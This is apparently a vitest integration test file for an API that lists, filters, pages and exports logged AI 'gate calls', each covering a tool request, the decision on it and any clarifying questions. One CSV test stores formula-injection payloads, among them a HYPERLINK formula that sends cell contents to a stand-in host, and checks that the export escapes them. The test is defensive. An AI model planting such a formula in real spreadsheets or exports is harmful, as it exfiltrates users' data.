import { eq, sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { GateCallDetail, GateCallList } from '../../src/contracts/gate-call.js';
import { configVersions } from '../../src/db/schema/config-versions.js';
import { gateCalls, type NewGateCall } from '../../src/db/schema/gate-calls.js';
import { uuidv7 } from '../../src/ids.js';
import { openFollowers } from '../../src/jobs/followers.js';
import { startApp, type TestApp, type TestTenant } from '../support/app.js';
import { drain } from '../support/feed.js';
import { problemOf, refusedFields } from '../support/problem.js';
import { gateCallRow } from '../support/rows.js';

let subject: TestApp;
beforeAll(async () => {
  subject = await startApp();
});
afterAll(() => subject.close());

const list = async (tenant: TestTenant, query = '') => {
  const reply = await tenant.call('GET', `/v1/gate-calls?${query}`);
  expect(reply.statusCode, reply.body).toBe(200);
  return GateCallList.strict().parse(reply.json());
};
const idsIn = ({ items }: GateCallList): string[] => items.map(({ id }) => id);

const SCORES = { goal: 0.1, scope: 0.4, constraints: 0.2, output_format: 0.1 };

/** Stores calls a minute apart, the last one now, and answers them as stored. */
async function store(
  tenant: TestTenant,
  ...rows: Partial<NewGateCall>[]
): Promise<[NewGateCall, ...NewGateCall[]]> {
  const full = rows.map((row, at) =>
    gateCallRow({
      tenantId: tenant.id,
      createdAt: new Date(subject.clock.now.getTime() - (rows.length - 1 - at) * 60_000),
      dimensions: SCORES,
      ...row,
    }),
  );
  await subject.database.db.insert(gateCalls).values(full);
  return full as [NewGateCall, ...NewGateCall[]];
}

const spec = (tool: string) => ({
  ...{ goal: null, output_format: null, scope: null, constraints: [], entities: [], missing: [] },
  ...{ assumptions: [], tool, parameters: {} },
});

describe('GET /v1/gate-calls', () => {
  test('200 with the calls, the newest first, a page after another', async () => {
    const tenant = await subject.tenant();
    const rows = await store(tenant, {}, {}, {}, {}, {});
    const newest = rows.map(({ id }) => id).reverse();
    const first = await list(tenant, 'page_size=2');
    expect(idsIn(first)).toEqual(newest.slice(0, 2));
    expect(first).toMatchObject({ has_more: true, is_complete: true, next_before: newest[1] });
    const second = await list(tenant, `page_size=2&before=${first.next_before}`);
    expect(idsIn(second)).toEqual(newest.slice(2, 4));
    const last = await list(tenant, `page_size=2&before=${second.next_before}`);
    expect(idsIn(last)).toEqual(newest.slice(4));
    expect(last).toMatchObject({ has_more: false, is_complete: true, next_before: null });
  });

  test.each<[string, Partial<NewGateCall>, Partial<NewGateCall>]>([
    ['decision=ask', { decision: 'ask' }, { decision: 'proceed' }],
    ['model_decision=ask', { modelDecision: 'ask' }, { modelDecision: 'proceed' }],
    ['held_back=true', { decision: 'proceed', modelDecision: 'ask' }, {}],
    ['held_back=true', { decision: null, modelDecision: 'ask' }, {}],
    ['held_back=false', {}, { decision: 'proceed', modelDecision: 'ask' }],
    ['action_risk=high', { actionRisk: 'high' }, { actionRisk: null }],
    ['dimension=scope', {}, { dimensions: { ...SCORES, goal: 0.5 } }],
    ['dimension=goal', { dimensions: { ...SCORES, goal: 0.4 } }, {}],
    ['score_min=0.81', { ambiguityScore: 0.81 }, { ambiguityScore: 0.8 }],
    ['score_min=1e-46', {}, { ambiguityScore: -1 }],
    ['score_max=1e-320', { ambiguityScore: 0 }, { ambiguityScore: 0.1 }],
    ['probability_min=1e-40', {}, { probability: -1 }],
    ['probability_max=0.30000000000000001', { probability: 0.3 }, { probability: 0.31 }],
    ['score_max=0.81', { ambiguityScore: 0.81 }, { ambiguityScore: 0.82 }],
    ['probability_min=0.3', { probability: 0.3 }, { probability: 0.29 }],
    ['probability_max=0.3', { probability: 0.3 }, { probability: 0.31 }],
    ['tool=refund', { intentSpec: spec('refund') }, { intentSpec: spec('other') }],
    [
      'tool=refund',
      { proposedCall: { id: null, name: 'refund', arguments: [], integration: null } },
      {
        intentSpec: spec('refund'),
        proposedCall: { id: null, name: 'other', arguments: [], integration: null },
      },
    ],
    ['mode=observe', { mode: 'observe' }, {}],
    ['experiment_arm=control', { experimentArm: 'control' }, { experimentArm: 'treatment' }],
    [
      'date_from=2026-11-19',
      { createdAt: new Date('2026-11-19T00:00:00.000Z') },
      { createdAt: new Date('2026-11-18T23:59:59.999Z') },
    ],
    [
      'date_to=2026-11-19',
      { createdAt: new Date('2026-11-19T23:59:59.999Z') },
      { createdAt: new Date('2026-11-20T00:00:00.000Z') },
    ],
    ['', {}, { createdAt: new Date('2026-11-13T11:59:59.999Z') }],
    ['decision=&tool=&before=', {}, { createdAt: new Date('2026-11-13T11:59:59.999Z') }],
  ])('200: %s finds those alone', async (query, wanted, other) => {
    const tenant = await subject.tenant();
    const [match] = await store(tenant, wanted, other);
    expect(idsIn(await list(tenant, query))).toEqual([match.id]);
  });

  test('200: what was reviewed and what went wrong', async () => {
    const tenant = await subject.tenant();
    const gate = (session_id: string) =>
      tenant.call('POST', '/v1/gate', { request: 'Translate the letter', session_id });
    await gate('fine');
    await gate('bad');
    const event = { session_id: 'bad', event: 'correction', detail: 'the other letter' };
    const { id, gate_call_id: bad } = (await tenant.call('POST', '/v1/events', event)).json();
    await drain(subject.database.db, openFollowers(), { now: subject.clock.now });
    const fine = idsIn(await list(tenant)).filter((one) => one !== bad);
    expect(idsIn(await list(tenant, 'went_wrong=true'))).toEqual([bad]);
    expect(idsIn(await list(tenant, 'went_wrong=false'))).toEqual(fine);
    expect(idsIn(await list(tenant, 'reviewed=true'))).toEqual([]);
    await tenant.call('POST', '/v1/reviews', { event_id: id, verdict: 'true_misunderstanding' });
    expect(idsIn(await list(tenant, 'reviewed=true'))).toEqual([bad]);
    expect(idsIn(await list(tenant, 'reviewed=true&went_wrong=true'))).toEqual([bad]);
    expect(idsIn(await list(tenant, 'reviewed=false&went_wrong=true'))).toEqual([]);
    expect(idsIn(await list(tenant, 'reviewed=false'))).toEqual(fine);
    const [item] = (await list(tenant, 'went_wrong=true')).items;
    expect(item).toMatchObject({ session_id: 'bad', reviewed: true, went_wrong: true });
  });

  test('200: it looks at 30,000 calls at most, and goes on from there', async () => {
    const tenant = await subject.tenant();
    const [rare] = await store(tenant, { decision: 'escalate' });
    await subject.database.db.execute(sql`
      insert into gate_calls (tenant_id, id, created_at, session_id, thread_id, correlation_id, request, mode,
        intervention_mode, decision, model_decision, questions, options, ambiguity_score, probability, dimensions,
        evidence, costs, model_version, config_version, duration_ms)
      select tenant_id, overlay(id::text placing lpad(to_hex(n), 12, '0') from 25)::uuid, created_at, session_id,
        thread_id, correlation_id, request, mode, intervention_mode, 'proceed', model_decision, questions, options,
        ambiguity_score, probability, dimensions, evidence, costs, model_version, config_version, duration_ms
      from (select * from gate_calls where tenant_id = ${tenant.id}) g, generate_series(1, 30000) n`);
    await store(tenant, {
      createdAt: new Date(subject.clock.now.getTime() - 3_600_000),
      decision: 'escalate',
    });
    const first = await list(tenant, 'decision=escalate');
    expect(first).toMatchObject({ has_more: true, is_complete: false });
    const second = await list(tenant, `decision=escalate&before=${first.next_before}`);
    expect(second).toMatchObject({ has_more: false, is_complete: true, next_before: null });
    expect([...first.items, ...second.items]).toHaveLength(2);
    expect([...idsIn(first), ...idsIn(second)]).toContain(rare.id);
    const headers = { accept: 'text/csv' };
    const file = await tenant.call('GET', '/v1/gate-calls?decision=escalate', undefined, headers);
    expect(file.headers['x-intentlock-next-before']).toBe(first.next_before);
    expect(file.body.trim().split('\r\n')).toHaveLength(1 + first.items.length);
  });

  test('422 names the filter that is wrong', async () => {
    const tenant = await subject.tenant();
    const wrong = {
      ...{ before: 'x', date_from: 'yesterday', decision: 'no', page_size: '101', score_min: '2' },
      ...{ went_wrong: 'maybe', dimension: 'size', probability_max: 'high' },
    };
    for (const [name, value] of Object.entries(wrong)) {
      const reply = await tenant.call('GET', `/v1/gate-calls?${name}=${value}`);
      expect(refusedFields(reply)).toEqual([`/${name}`]);
    }
    const turned = 'date_from=2026-11-20&date_to=2026-11-19';
    expect(refusedFields(await tenant.call('GET', `/v1/gate-calls?${turned}`))).toEqual([
      '/date_to',
    ]);
  });

  test('another tenant sees none of them, whatever it filters and wherever it begins', async () => {
    const [owner, stranger] = [await subject.tenant(), await subject.tenant()];
    const rows = await store(owner, { decision: 'ask' }, {});
    for (const query of ['', 'decision=ask', 'went_wrong=true', `before=${rows[1]?.id}`]) {
      expect((await list(stranger, query)).items).toEqual([]);
    }
  });
});

describe('GET /v1/gate-calls as a file', () => {
  test('200 as CSV, in which nothing is a formula', async () => {
    const tenant = await subject.tenant();
    const requests = [
      '=HYPERLINK("http://evil.test?"&A1)',
      ' +1',
      '-1',
      '@x',
      '\tx',
      'a "b", c\nd',
      'see; =1+1 and;-2\n@x;"=3"',
      'a; b',
    ];
    await store(tenant, ...requests.map((request) => ({ request, actionCost: -1 })));
    const headers = { accept: 'text/csv' };
    const reply = await tenant.call('GET', '/v1/gate-calls', undefined, headers);
    expect(reply.statusCode).toBe(200);
    expect(reply.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(reply.headers['x-intentlock-next-before']).toBeUndefined();
    const [head, ...rest] = reply.body.split('\r\n');
    expect(head).toMatch(/^id,thread_id,session_id,correlation_id,occurred_at,request,tool,/);
    const cells = rest.join('\r\n');
    for (const cell of [
      `"'=HYPERLINK(""http://evil.test?""&A1)"`,
      `"' +1"`,
      `"'-1"`,
      `"'@x"`,
      `"'\tx"`,
      `"a ""b"", c\nd"`,
      `"see;' =1+1 and;'-2\n'@x;'""=3"""`,
      '"a; b"',
    ]) {
      expect(cells).toContain(`,${cell},`);
    }
    expect(cells).toContain(',-1,');
  });

  test('200 as CSV with a byte order mark, where that is asked for', async () => {
    const tenant = await subject.tenant();
    await store(tenant, { request: '主婦 naïve ü' });
    const headers = { accept: 'text/csv' };
    const marked = await tenant.call('GET', '/v1/gate-calls?bom=true', undefined, headers);
    expect([...marked.rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const plain = await tenant.call('GET', '/v1/gate-calls?bom=false', undefined, headers);
    expect(`\uFEFF${plain.body}`).toBe(marked.rawPayload.toString('utf8'));
  });

  test('200 as CSV of more rows than are read at once', async () => {
    const tenant = await subject.tenant();
    const rows = await store(tenant, ...Array.from({ length: 1_001 }, () => ({})));
    const headers = { accept: 'text/csv' };
    const reply = await tenant.call('GET', '/v1/gate-calls', undefined, headers);
    const ids = reply.body
      .trim()
      .split('\r\n')
      .slice(1)
      .map((line) => line.split(',')[0]);
    expect(ids).toEqual(rows.map(({ id }) => id).reverse());
  });
});

describe('GET /v1/gate-calls/{gate_call_id}', () => {
  const detail = async (tenant: TestTenant, id: string) => {
    const reply = await tenant.call('GET', `/v1/gate-calls/${id}`);
    expect(reply.statusCode, reply.body).toBe(200);
    return GateCallDetail.strict().parse(reply.json());
  };

  test('200 with the prices at its decision, whatever they are now', async () => {
    const tenant = await subject.tenant();
    await tenant.call('PUT', '/v1/config', { ask_friction: 3 });
    await tenant.call('POST', '/v1/gate', { request: 'Delete it', session_id: 'priced' });
    await tenant.call('PUT', '/v1/config', { ask_friction: 7 });
    const id = (await list(tenant)).items[0]?.id ?? '';
    const { prices } = await detail(tenant, id);
    const { ask_friction: now, failure_cost } = (await tenant.call('GET', '/v1/config')).json();
    expect([prices?.ask_friction, prices?.failure_cost, now]).toEqual([3, failure_cost, 7]);
    // Of a call from before the history was kept nobody knows them.
    await subject.database.db.delete(configVersions).where(eq(configVersions.tenantId, tenant.id));
    expect((await detail(tenant, id)).prices).toBe(null);
  });

  test('200 with its thread, what came of it, reviews and what it was decided on', async () => {
    const tenant = await subject.tenant();
    const body = {
      request: 'Delete the old records',
      session_id: 'chat',
      action_risk: 'irreversible',
      context: { call: { name: 'delete_records', arguments: { before: 2019 } } },
    };
    const asked = (await tenant.call('POST', '/v1/gate', body)).json();
    expect(asked.decision).not.toBe('proceed');
    subject.clock.advance(3_000);
    const answer = { ...body, clarification_response: 'those from before 2019' };
    await tenant.call('POST', '/v1/gate', answer);
    const [second, first] = (await list(tenant)).items;
    const event = { session_id: 'chat', event: 'correction', detail: 'not those' };
    const { id: eventId } = (await tenant.call('POST', '/v1/events', event)).json();
    const outcome = { session_id: 'chat', type: 'refund_reversed', detail: 'undone', value: 5 };
    await tenant.call('POST', '/v1/outcomes', { ...outcome, currency: 'EUR' });
    await drain(subject.database.db, openFollowers(), { now: subject.clock.now });
    const review = { event_id: eventId, verdict: 'true_misunderstanding', note: 'see the log' };
    await tenant.call('POST', '/v1/reviews', review);

    const shown = await detail(tenant, second?.id ?? '');
    expect(shown).toMatchObject({
      ...{ id: second?.id, session_id: 'chat', request: 'Delete the old records', rule: null },
      proposed_call: { name: 'delete_records' },
      clarification_response: 'those from before 2019',
      followed: {
        events: [{ event: 'correction', detail: 'not those' }],
        outcomes: [{ type: 'refund_reversed', value: 5, currency: 'EUR' }],
      },
      reviews: [{ verdict: 'true_misunderstanding', note: 'see the log', event_id: eventId }],
    });
    expect(shown.thread.map(({ id }) => id)).toEqual([first?.id, second?.id]);
    expect(shown.followed.failures.map(({ kind }) => kind).sort()).toEqual(['event', 'outcome']);
    expect(shown.decision_inputs).toMatchObject({ request_length: 22, rule_rate: null });
    expect(shown.decision_inputs_text.join(' ')).toMatch(
      /The user had recently answered a question.*A misunderstanding would have cost/,
    );
    const before = await detail(tenant, first?.id ?? '');
    expect(before).toMatchObject({ questions: asked.questions, followed: { events: [] } });
    expect(before.decision_inputs?.fatigue).toBe('none');
  });

  test('200 with the rule that asked its question, and its rate alone once that has gone', async () => {
    const tenant = await subject.tenant();
    const rule = {
      ...{ id: 'rule_1', cluster_id: 'c_7' },
      question_template: 'Which environment do you mean?',
    };
    await tenant.call('PUT', '/v1/config', { cluster_rules: [rule] });
    const decisionInputs = { length: 5, loss: 2, friction: 1, nextFriction: 1.5, rate: 0.4 };
    const [asked, other] = await store(
      tenant,
      { questions: ['Which environment do you mean?'], decisionInputs },
      { questions: ['Which one?'], decisionInputs },
    );
    expect((await detail(tenant, asked.id)).rule).toEqual({
      ...{ rule_id: 'rule_1', cluster_id: 'c_7', rate: 0.4 },
      question: 'Which environment do you mean?',
    });
    expect((await detail(tenant, other?.id ?? '')).rule).toMatchObject({
      ...{ rule_id: null, cluster_id: null, rate: 0.4 },
    });
  });

  test('200 of a call from before its inputs were kept', async () => {
    const tenant = await subject.tenant();
    const [call] = await store(tenant, { decisionInputs: null });
    expect(await detail(tenant, call.id)).toMatchObject({
      ...{ decision_inputs: null, decision_inputs_text: [], rule: null },
    });
  });

  test('404 of an unknown one and of one of somebody else, 422 of what is no id', async () => {
    const [owner, stranger] = [await subject.tenant(), await subject.tenant()];
    const [call] = await store(owner, {});
    problemOf(await stranger.call('GET', `/v1/gate-calls/${call.id}`), 404);
    problemOf(await owner.call('GET', `/v1/gate-calls/${uuidv7()}`), 404);
    expect(refusedFields(await owner.call('GET', '/v1/gate-calls/abc'))).toEqual(['/gate_call_id']);
  });
});
